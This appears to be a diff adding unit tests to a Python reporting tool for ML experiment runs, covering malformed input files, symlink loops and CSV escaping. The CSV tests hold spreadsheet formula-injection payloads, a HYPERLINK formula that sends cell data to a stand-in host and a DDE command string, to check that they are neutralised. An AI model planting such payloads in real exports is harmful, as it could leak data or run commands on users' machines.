@@ -291,8 +291,11 @@ class ReadingTest(Case):
 
     def test_a_folder_that_is_named_twice_counts_once(self):
         path = self.original(0.9, 1)
-        collection = report_runs.collect([path, self.folder, path])
-        self.assertEqual((len(collection.completed), collection.repeated), (1, []))
+        (self.folder / "link").symlink_to("cells")
+        link = self.folder / "link"
+        for folders in ([path, self.folder, path], [link, self.folder], [self.folder / "cells" / "..", link / path.name]):
+            collection = report_runs.collect(folders)
+            self.assertEqual((len(collection.completed), collection.repeated), (1, []), folders)
 
     def test_incomplete_runs_are_told(self):
         self.original(0.9, 1)
@@ -350,6 +353,12 @@ class ReadingTest(Case):
         def edit(name, change):
             return lambda path: (path / name).write_text(change((path / name).read_text()))
 
+        def replace(name, make):
+            return lambda path: ((path / name).unlink(), make(path / name))
+
+        def loop(path):
+            path.symlink_to(path.name)
+
         for spoil, expected in [
             (lambda path: (path / "config.json").unlink(), "config.json: cannot be read"),
             (text("config.json", '{"settings": {'), "config.json: cannot be read"),
@@ -376,6 +385,11 @@ class ReadingTest(Case):
             (edit("config.json", lambda t: t.replace('"seed": 1', '"seed": "1"')), "seed: expected a whole number"),
             (edit("config.json", lambda t: t.replace('"threshold": 1.0', '"threshold": NaN')), "threshold: expected"),
             (edit("layers.jsonl", lambda t: t.replace('"conv1"', "[]", 1)), "line 1: expected a text, got a list"),
+            (replace("summary.json", loop), "summary.json: cannot be read: Too many levels"),  # not "incomplete"
+            (replace("metrics.jsonl", loop), "metrics.jsonl: cannot be read: Too many levels"),
+            (replace("metrics.jsonl", os.mkfifo), "metrics.jsonl: cannot be read: expected a regular file"),
+            (replace("config.json", os.mkdir), "config.json: cannot be read: expected a regular file"),
+            (text("config.json", " " * 2**24 + "{}"), "config.json: cannot be read: expected at most 16777216 bytes"),
         ]:
             path = self.amplified(0.9, 1, 1.0)
             spoil(path)
@@ -623,6 +637,41 @@ class TablesTest(Case):
         self.assertIn(f"| {name} | best on test (biased) | 90.00%", text)
         self.assertNotIn("\x1b", text)
 
+    def test_a_spreadsheet_computes_no_name(self):
+        formula = '=HYPERLINK("http://a.b?"&A1,"x")'
+        for name in (formula, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\n=1", "\uff1d1", "=", "-", "-1_0"):
+            self.assertEqual(report_csv.plain(name), "'" + name)
+        for value in ("resnet18", "a=b", "", "50% of conv", "0.7", "-0.7", "+1e-05", "-.5", -0.5, None, True):
+            self.assertEqual(report_csv.plain(value), value)
+
+    def test_names_are_escaped_in_csv(self):
+        self.original(0.9, 1, network="=1+1", dataset="@d")
+        self.original(0.9, 1, network="resnet8", weights="=cmd|' /C calc'!A0")
+        rows_of = report_tables.make_rows(self.collect().completed)
+        records = list(csv.DictReader(io.StringIO(report_csv.comma_separated(rows_of))))
+        self.assertEqual({(r["dataset"], r["network"], r["row"]) for r in records if r["network"] != "resnet8"},
+                         {("'@d", "'=1+1", "'=1+1")})
+        for record in records:
+            for value in record.values():
+                self.assertFalse(value.startswith(("=", "+", "@")), record)
+            self.assertEqual(record["threshold_or_choice"], "")
+
+    def test_a_cell_is_computed_once(self):
+        for seed in (1, 2):
+            self.original(0.92, seed, validation=0.91)
+            for threshold in (0.7, 0.8, 0.9):
+                self.amplified(0.94, seed, threshold, validation=0.91)
+        rows_of = report_tables.make_rows(self.collect().completed)
+        computed = []
+        make_cell = report_tables.make_cell
+        report_tables.make_cell = lambda row, column, choice: computed.append(choice) or make_cell(row, column, choice)
+        try:
+            report_csv.comma_separated(rows_of)
+            report_text.markdown(rows_of)
+        finally:
+            report_tables.make_cell = make_cell
+        self.assertEqual(sorted(computed, key=str), [0.7, 0.8, 0.9, None])
+
     def test_the_papers_tables(self):
         for table in (report_paper.ACCURACY, report_paper.MINUTES):
             for dataset in table.values():
@@ -705,6 +754,14 @@ class FigureTest(unittest.TestCase):
             low, high = panel.get_ylim()
             self.assertEqual(low, 0)
             self.assertGreater(high, value, panel.get_title())
+
+    def test_seeds_with_equal_measures_are_drawn(self):
+        import report_layer_figures
+
+        equal = [dict(type="conv", g=0.175, g_prime=0.175, noise_floor=0.1, selected=False)] * 3
+        self.assertLess(report_statistics.mean([0.175] * 3), 0.175)  # rounded
+        figure, _ = report_layer_figures.measures_over_layers({4: {"a": equal}}, "g-1")
+        self.assertEqual(len(figure.axes), 2)
 
 
     def test_the_lowest_accuracy_is_that_of_the_numbers(self):
